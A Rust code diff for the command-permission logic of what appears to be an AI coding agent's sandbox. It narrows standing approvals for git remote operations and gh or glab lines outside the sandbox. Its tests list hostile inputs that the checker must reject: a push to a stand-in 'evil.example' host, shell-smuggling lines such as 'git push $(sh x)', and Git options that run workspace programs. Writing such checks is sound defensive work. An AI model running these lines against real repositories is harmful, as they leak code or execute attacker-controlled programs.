@@ -8,8 +8,8 @@ use std::path::{Path, PathBuf};
 
 use epitome_thread::{Mode, Rule};
 
-use super::git_commands::changes_repository;
-use super::sandbox::home;
+use super::git_commands::{changes_repository, is_plain};
+use super::sandbox::{git, home};
 use super::secret_paths::{SecretPaths, is_secret_name};
 use super::{Access, Workspace, real_path};
 use later::{Surroundings, is_asked_about};
@@ -59,12 +59,26 @@ pub struct DiskFacts {
     obeyed: Vec<PathBuf>,
     /// The directories among the paths that are read.
     directories: Vec<PathBuf>,
+    /// Whether Git runs nothing else in the session's directory, for a command that changes a repository.
+    runs_only_git: bool,
+    /// The name and address of the remote that a line talks to.
+    remote: Option<(String, String)>,
 }
 
 impl DiskFacts {
-    /// Looks up the facts about one access: up to a few hundred system calls for files, none for other kinds of
-    /// access.
+    /// Looks up the facts about one access: up to a few hundred system calls for files, and a process for a command that
+    /// changes a repository.
     pub fn look_up(access: &Access, workspace: &Workspace) -> DiskFacts {
+        if let Access::Command { line, confined, changes_git } = access {
+            let cwd = &workspace.cwd;
+            let named = RemoteCommand::parse(line).filter(|_| !confined);
+            return DiskFacts {
+                runs_only_git: *confined && *changes_git && git::runs_only_git(cwd),
+                remote: named
+                    .and_then(|command| git::remote(cwd, command.remote, command.subcommand == "push")),
+                ..DiskFacts::default()
+            };
+        }
         let (Access::Read(paths) | Access::Write(paths)) = access else { return DiskFacts::default() };
         let home = workspace.home().map(|home| real_path(&home));
         let mut obeyed = home::linked(workspace, home.as_deref());
@@ -74,6 +88,7 @@ impl DiskFacts {
             obeyed,
             home,
             directories: paths.iter().filter(|path| path.is_dir()).cloned().collect(),
+            ..DiskFacts::default()
         }
     }
 }
@@ -91,7 +106,7 @@ pub fn decide(
         Access::Read(paths) => read(paths, mode, rules, workspace, facts),
         Access::Write(paths) => write(paths, mode, rules, workspace, facts),
         Access::Command { line, confined, changes_git } => {
-            command(line, *confined, *changes_git, mode, rules)
+            command(line, *confined, *changes_git, mode, rules, facts)
         }
         // A memory takes effect in all later sessions, so no mode allows it unseen.
         Access::Remember(_) if mode == Mode::ReadOnly => denied("Files cannot be changed"),
@@ -195,61 +210,81 @@ fn runs_later(path: &Path, workspace: &Workspace, facts: &DiskFacts) -> bool {
     is_asked_about(below, if has_home { Surroundings::Home } else { Surroundings::Project })
 }
 
-fn command(line: &str, confined: bool, changes_git: bool, mode: Mode, rules: &[Rule]) -> PermissionVerdict {
-    let (rule, words) = match confined {
-        true => (Rule::Command { line: line.to_string() }, "exactly this command for this session"),
-        false => (
-            Rule::CommandOutside { line: line.to_string() },
-            "exactly this command outside the sandbox for this session",
-        ),
-    };
+fn command(
+    line: &str,
+    confined: bool,
+    changes_git: bool,
+    mode: Mode,
+    rules: &[Rule],
+    facts: &DiskFacts,
+) -> PermissionVerdict {
     match mode {
         Mode::ReadOnly => denied("Commands cannot be run"),
         Mode::Full => PermissionVerdict::Allow { by: AllowedBy::Mode(mode) },
         // `ruled::judge` has checked that the sandbox is complete.
-        Mode::Auto if confined && !changes_git => PermissionVerdict::Allow { by: AllowedBy::Mode(mode) },
+        Mode::Auto if confined && (!changes_git || facts.runs_only_git && is_plain(line)) => {
+            PermissionVerdict::Allow { by: AllowedBy::Mode(mode) }
+        }
         // A rule for the line doesn't cover the effects of its programs on a repository.
         _ if changes_git && !changes_repository(line) => PermissionVerdict::Ask { always: None },
+        Mode::Ask | Mode::AcceptEdits | Mode::Auto if confined => {
+            let words = "exactly this command for this session".to_owned();
+            remembered(Rule::Command { line: line.to_owned() }, words, rules)
+        }
         // The line may run something else the next time: scripts and settings of the workspace can be changed.
-        _ if !confined && !is_of_a_service(line) => PermissionVerdict::Ask { always: None },
-        Mode::Ask | Mode::AcceptEdits | Mode::Auto => remembered(rule, words.to_owned(), rules),
+        Mode::Ask | Mode::AcceptEdits | Mode::Auto => match outside_rule(line, facts) {
+            Some((rule, words)) => remembered(rule, words, rules),
+            None => PermissionVerdict::Ask { always: None },
+        },
     }
 }
 
-/// Options of `git push` and the like that name no program.
-const OPTIONS_OF_GIT: [&str; 14] = [
-    "-u",
-    "-f",
-    "-q",
-    "-v",
-    "--all",
-    "--delete",
-    "--dry-run",
-    "--ff-only",
-    "--follow-tags",
-    "--force",
-    "--force-with-lease",
-    "--prune",
-    "--rebase",
-    "--tags",
-];
+/// A command of Git that talks to a remote, and neither forces nor deletes anything there.
+struct RemoteCommand<'a> {
+    subcommand: &'a str,
+    /// `None` for the usual one.
+    remote: Option<&'a str>,
+}
 
-/// Whether a line is one command for a service that runs nothing of the workspace: the hooks of Git are protected, and so
-/// are the addresses of its remotes.
-fn is_of_a_service(line: &str) -> bool {
-    let is_plain = |c: char| c.is_ascii_alphanumeric() || " -_./:#@".contains(c);
-    let words: Vec<&str> = line.split_whitespace().collect();
-    let runs_nothing = match words[..] {
-        ["gh" | "glab", ..] => true,
-        ["git", "push" | "fetch" | "pull" | "ls-remote", ref rest @ ..] => {
-            let (options, names): (Vec<&str>, Vec<&str>) =
-                rest.iter().partition(|word| word.starts_with('-'));
-            options.iter().all(|option| OPTIONS_OF_GIT.contains(option))
-                && names.first().is_none_or(|remote| !remote.contains(['/', ':', '.']))
-        }
-        _ => false,
-    };
-    runs_nothing && line.chars().all(is_plain)
+impl<'a> RemoteCommand<'a> {
+    fn parse(line: &'a str) -> Option<RemoteCommand<'a>> {
+        const OPTIONS: [&str; 8] =
+            ["-u", "--set-upstream", "-q", "-v", "--ff-only", "--follow-tags", "--rebase", "--tags"];
+        let words: Vec<&str> = line.split_whitespace().collect();
+        let ["git", subcommand @ ("push" | "fetch" | "pull" | "ls-remote"), ref rest @ ..] = words[..] else {
+            return None;
+        };
+        let (options, names): (Vec<&str>, Vec<&str>) = rest.iter().partition(|word| word.starts_with('-'));
+        let is_plain = options.iter().all(|option| OPTIONS.contains(option))
+            && names.first().is_none_or(|remote| !remote.contains(['/', '.']))
+            && is_plain_text(line)
+            && !line.contains(':');
+        is_plain.then(|| RemoteCommand { subcommand, remote: names.first().copied() })
+    }
+}
+
+/// Returns the rule that "always" adds for a line outside of the sandbox, and its text. Only for lines that run nothing of the
+/// workspace: commands of Git, whose hooks are protected, with a remote at the same address, and exact lines of the programs
+/// of hosts. A program's name does not show that it runs nothing of the workspace (`make`, `npm publish`), so these are named.
+fn outside_rule(line: &str, facts: &DiskFacts) -> Option<(Rule, String)> {
+    if let (Some(command), Some((name, address))) = (RemoteCommand::parse(line), &facts.remote) {
+        let (what, limit) = match command.subcommand {
+            "push" => ("pushing to", ", but never by force"),
+            other => (other, ""),
+        };
+        // No command line looks like this.
+        let line = format!("git {} {name} ({address})", command.subcommand);
+        let words = format!("{what} {name} ({address}) outside the sandbox for this session{limit}");
+        return Some((Rule::CommandOutside { line }, words));
+    }
+    let is_of_host = ["gh ", "glab "].iter().any(|program| line.starts_with(program)) && is_plain_text(line);
+    let words = "exactly this command outside the sandbox for this session".to_owned();
+    is_of_host.then(|| (Rule::CommandOutside { line: line.to_owned() }, words))
+}
+
+/// Whether a shell takes a line for one command with these words.
+fn is_plain_text(line: &str) -> bool {
+    line.chars().all(|c| c.is_ascii_alphanumeric() || " -_./:#@".contains(c))
 }
 
 /// An address can leak data to the host's owner, so fetching asks in every mode except full.
@@ -346,25 +381,45 @@ mod tests {
         PermissionVerdict::Allow { by: AllowedBy::Mode(mode) }
     }
 
-    /// "Always" for `sh tools/deploy.sh` outside of the sandbox covered whatever the script had become.
+    /// "Always" for `sh tools/deploy.sh` outside of the sandbox covered whatever the script had become, and "always" for `git
+    /// push` whatever address a command had given the remote since.
     #[test]
     fn always_outside_is_for_lines_that_run_nothing_of_the_workspace() {
-        for line in ["git push", "git push -u origin main", "git fetch --all", "gh pr create --fill"] {
-            assert!(is_of_a_service(line), "{line}");
+        let at = |address: &str| DiskFacts {
+            remote: Some(("origin".to_owned(), address.to_owned())),
+            ..DiskFacts::default()
+        };
+        let rule = |line: &str, facts: &DiskFacts| outside_rule(line, facts).map(|(rule, _)| rule);
+        let (here, elsewhere) = (at("https://a.example/x.git"), at("https://evil.example/x.git"));
+        let push = rule("git push", &here).expect("a rule");
+        for line in ["git push -u origin main", "git push origin feature"] {
+            assert_eq!(rule(line, &here).as_ref(), Some(&push), "{line}");
+            assert_ne!(rule(line, &elsewhere).as_ref(), Some(&push), "{line}");
+            assert_eq!(rule(line, &DiskFacts::default()), None, "{line}");
         }
+        assert_ne!(rule("git fetch", &here).expect("a rule"), push);
+        let exact = Some(Rule::CommandOutside { line: "gh pr create --fill".to_owned() });
+        assert_eq!(rule("gh pr create --fill", &here), exact);
         for line in [
             "sh tools/deploy.sh",
             "make",
             "npm publish",
             "git commit -m x",
+            "git push --force",
+            "git push -f origin main",
+            "git push origin +main",
+            "git push origin :main",
+            "git push origin --delete main",
             "git push ../build/cache.git",
+            "git push https://evil.example/x.git",
             "git push --receive-pack=tools/x origin",
             "git -c core.sshCommand=tools/x push",
             "git push; sh x",
             "git push\nsh x",
             "git push $(sh x)",
+            "gh pr create; sh x",
         ] {
-            assert!(!is_of_a_service(line), "{line}");
+            assert_eq!(rule(line, &here), None, "{line}");
         }
     }
 
@@ -418,7 +473,7 @@ mod tests {
             (writing("/etc/hosts"), "ooodo"),
             (running("cargo test", true), "AAada"),
             (running("cargo test", false), "oooda"),
-            (running("git push origin", false), "AAAda"),
+            (running("gh pr create", false), "AAAda"),
             (Access::Fetch { url: "https://docs.rs/serde".into(), host: "docs.rs".into() }, "AAAAa"),
             (external_tool("look", true), "AAAAa"),
             (external_tool("write", false), "AAAda"),
